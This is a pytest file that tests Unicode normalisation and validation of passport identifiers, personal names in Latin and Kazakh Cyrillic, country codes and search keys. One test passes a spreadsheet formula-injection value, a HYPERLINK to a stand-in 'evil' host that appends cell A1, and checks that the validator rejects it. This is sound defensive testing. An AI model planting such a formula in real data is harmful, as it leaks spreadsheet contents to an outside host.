"""Identifiers and names as core.normalize reads them."""

import pytest
from django.core.exceptions import ValidationError

from core.normalize import (
    COUNTRY_UNKNOWN,
    CYRILLIC_LOST,
    CYRILLIC_NO_LETTERS,
    IDENTIFIER_SCIENTIFIC,
    LATIN_LOST,
    NAME_LETTERS_LOST,
    NAME_NO_LETTERS,
    NameValidator,
    normalize_country,
    normalize_identifier,
    normalize_name,
    validate_country,
    validate_identifier,
    validate_name,
)

# IDENTIFIERS


@pytest.mark.parametrize(
    "typed",
    [
        "PRBO0002",
        "prbo 0002",
        "ＰＲＢＯ０００２",  # full width
        "PRBO٠٠٠٢",  # Arabic-Indic digits
        "PRBO۰۰۰۲",  # Extended Arabic-Indic (Persian) digits
        "PRBO०००२",  # Devanagari digits
        "prbo-0002",
        "PRBO\u00a00002",  # no-break space
        "PRBO\u20130002",  # en dash
        "PRBO\u22120002",  # minus sign
        "P.R.B.O/0002",
        " PRBO\u200b0002\t",  # zero-width space, tab
        "ＰＲＢＯ－０００２",  # full-width hyphen
    ],
)
def test_identifiers_typed_differently_are_one(typed):
    assert normalize_identifier(typed) == "PRBO0002"
    validate_identifier(typed)


def test_identifier_of_a_number_cell_is_its_text():
    assert normalize_identifier(700) == "700"
    assert normalize_identifier(None) == ""


@pytest.mark.parametrize("typed", ["AB#123", "ДЖ123", "AB_12", "Ä123"])
def test_identifier_with_other_characters_is_refused_naming_them(typed):
    with pytest.raises(ValidationError) as raised:
        validate_identifier(typed)
    assert raised.value.code == "identifier"
    wrong = {"AB#123": "#", "ДЖ123": "Д Ж", "AB_12": "_", "Ä123": "Ä"}[typed]
    assert f"“{wrong}”" in raised.value.messages[0]


@pytest.mark.parametrize(
    "typed",
    [
        "АВЕКМНОРСТХ0",  # every Cyrillic capital drawn like a Latin one
        "авекмнорстх0",  # and their lower-case forms
        "AВEКMНOРCТX0",  # Latin and Cyrillic mixed, as a keyboard switched midway types it
        "ΑΒΕΚΜΗΟΡCΤΧ0",  # Greek capitals (and a Latin C: Greek has none)
        "ＡＢＥＫＭＨＯＰＣＴＸ０",  # full width
    ],
)
def test_letters_drawn_like_latin_ones_are_the_latin_letters(typed):
    assert normalize_identifier(typed) == "ABEKMHOPCTX0"
    validate_identifier(typed)


def test_a_passport_typed_in_cyrillic_and_arabic_digits_is_one_number():
    assert (
        normalize_identifier("РRВО٠٠٠٢") == normalize_identifier("ＰＲＢＯ０００２") == "PRBO0002"
    )


@pytest.mark.parametrize(
    "typed", ["1,23457E+11", "1.23457E+11", "9.87654e+11", "1E+15", "123457E+11", "１．２E＋１１"]
)
def test_a_number_in_scientific_notation_is_refused_as_such(typed):
    with pytest.raises(ValidationError) as raised:
        validate_identifier(typed)
    assert raised.value.code == "scientific"
    assert raised.value.messages == [str(IDENTIFIER_SCIENTIFIC.format(value=typed))]


@pytest.mark.parametrize("number", ["AB12E34", "12E345678", "E1234567"])
def test_a_passport_with_an_e_between_digits_is_not_scientific(number):
    validate_identifier(number)


# NAMES


def test_name_is_nfc_with_spaces_collapsed():
    assert normalize_name("  Мамыт\u00a0 улы  ") == "Мамыт улы"
    assert normalize_name("Йе\u0308") == "Йё"
    assert normalize_name("Ca\u0306") == "C\u0103"  # a + combining breve: ă


@pytest.mark.parametrize(
    "invisible",
    [
        "\u202e",  # right-to-left override
        "\u202d",  # left-to-right override
        "\u202c",  # pop directional formatting
        "\u2066",  # left-to-right isolate
        "\u2067",  # right-to-left isolate
        "\u2068",  # first strong isolate
        "\u2069",  # pop directional isolate
        "\u200b",  # zero-width space
        "\u200d",  # zero-width joiner
        "\u200c",  # zero-width non-joiner
        "\ufeff",  # byte-order mark
        "\u00ad",  # soft hyphen
        "\u0007",  # bell
        "\n",
        "\u3164",  # Hangul filler
    ],
)
def test_invisible_and_control_characters_are_refused(invisible):
    for validator in (validate_name, NameValidator("latin")):
        with pytest.raises(ValidationError) as raised:
            validator(f"Mül{invisible}ler")
        assert raised.value.code == "invisible"
        assert f"U+{ord(invisible):04X}" in raised.value.messages[0]


@pytest.mark.parametrize("nothing", ["\u200b\u200b", "\u3164", "- .", "'"])
def test_a_name_of_nothing_visible_is_refused(nothing):
    with pytest.raises(ValidationError) as raised:
        validate_name(nothing)
    assert raised.value.code in {"invisible", "no_letters"}


def test_a_name_without_letters_says_so():
    with pytest.raises(ValidationError) as raised:
        validate_name("--")
    assert raised.value.messages == [str(NAME_NO_LETTERS)]


@pytest.mark.parametrize(
    "name",
    ["Müller", "O'Brien", "Jean-Luc", "St. John", "Şahin", "Øyvind", "Nguyễn", "Ábilqasymov"],
)
def test_latin_names_pass(name):
    NameValidator("latin")(name)


@pytest.mark.parametrize(
    "name", ["Әбілқасымов", "Нұрлан", "Ғалым", "Өмірзақ", "Үкібай", "Һашим", "Ёлкин-Иванов", "Іле"]
)
def test_cyrillic_names_with_kazakh_letters_pass(name):
    NameValidator("cyrillic")(name)


def test_a_latin_name_refuses_cyrillic_letters_naming_them():
    with pytest.raises(ValidationError) as raised:
        NameValidator("latin")("Ivanов")
    assert raised.value.code == "wrong_script"
    assert "“о в”" in raised.value.messages[0]


def test_a_cyrillic_name_refuses_a_latin_lookalike():
    with pytest.raises(ValidationError) as raised:
        NameValidator("cyrillic")("Iле")  # Latin I for Kazakh І
    assert raised.value.code == "wrong_script"
    assert "“I”" in raised.value.messages[0]


def test_digits_are_not_part_of_a_name():
    with pytest.raises(ValidationError) as raised:
        NameValidator("latin")("Smith2")
    assert raised.value.code == "wrong_script"


def test_a_question_mark_means_letters_lost():
    with pytest.raises(ValidationError) as raised:
        NameValidator("latin")("?ahin")
    assert raised.value.messages == [str(NAME_LETTERS_LOST)]
    assert "CSV UTF-8" in raised.value.messages[0]
    with pytest.raises(ValidationError) as raised:
        validate_name("G?k?e")
    assert raised.value.code == "letters_lost"


def test_a_question_mark_among_other_foreign_characters_names_them_not_lost_letters():
    with pytest.raises(ValidationError) as raised:
        NameValidator("latin")('=HYPERLINK("http://evil/?"&A1)')
    assert raised.value.code == "wrong_script"
    assert "=" in raised.value.messages[0] and "&" in raised.value.messages[0]


def test_a_script_column_of_question_marks_holds_no_letter_of_it():
    with pytest.raises(ValidationError) as raised:
        NameValidator("cyrillic")("??????")
    assert raised.value.messages == [str(CYRILLIC_LOST)]
    with pytest.raises(ValidationError) as raised:
        NameValidator("latin")("???? ??")
    assert raised.value.messages == [str(LATIN_LOST)]


def test_a_cyrillic_column_in_latin_holds_no_cyrillic():
    with pytest.raises(ValidationError) as raised:
        NameValidator("cyrillic")("Yildiz")
    assert raised.value.messages == [str(CYRILLIC_NO_LETTERS)]


def test_a_combining_accent_after_a_letter_passes_but_not_alone():
    NameValidator("latin")("Ja\u0328nis")  # a + combining ogonek (no precomposed form used)
    with pytest.raises(ValidationError):
        NameValidator("latin")("\u0301Janis")


def test_an_unknown_script_is_a_programming_error():
    with pytest.raises(ValueError):
        NameValidator("greek")


# COUNTRIES


@pytest.mark.parametrize("typed", ["TR", "tr", " Tr ", "TUR", "tur", "ＴＲ", "ТR"])
def test_a_country_code_in_either_case_and_alpha_3_is_one_country(typed):
    assert normalize_country(typed) == "TR"
    assert validate_country(typed) == "TR"


@pytest.mark.parametrize("typed", ["XX", "XYZ", "Turkey", "792", "T", ""])
def test_what_is_no_country_code_is_refused(typed):
    assert normalize_country(typed) == ""
    with pytest.raises(ValidationError) as raised:
        validate_country(typed)
    assert raised.value.code == "unknown_country"
    assert raised.value.messages == [str(COUNTRY_UNKNOWN.format(value=typed))]


@pytest.mark.parametrize(
    ("typed", "key"),
    [
        ("Şahin", "sahin"),
        ("SAHİN", "sahin"),
        ("Şahın", "sahin"),
        ("Gökçe", "gokce"),
        ("Гёкче", "гекче"),
        ("ЁЛКИН  Йошкар", "елкин йошкар"),
        ("Ақжол Әбдіғали", "ақжол әбдіғали"),
        ("Müller-Lüdenscheidt", "muller-ludenscheidt"),
        ("Straße", "strasse"),
        (None, ""),
    ],
)
def test_a_search_key_folds_diacritics_yo_and_case_but_keeps_kazakh_letters(typed, key):
    from core.normalize import search_key

    assert search_key(typed) == key
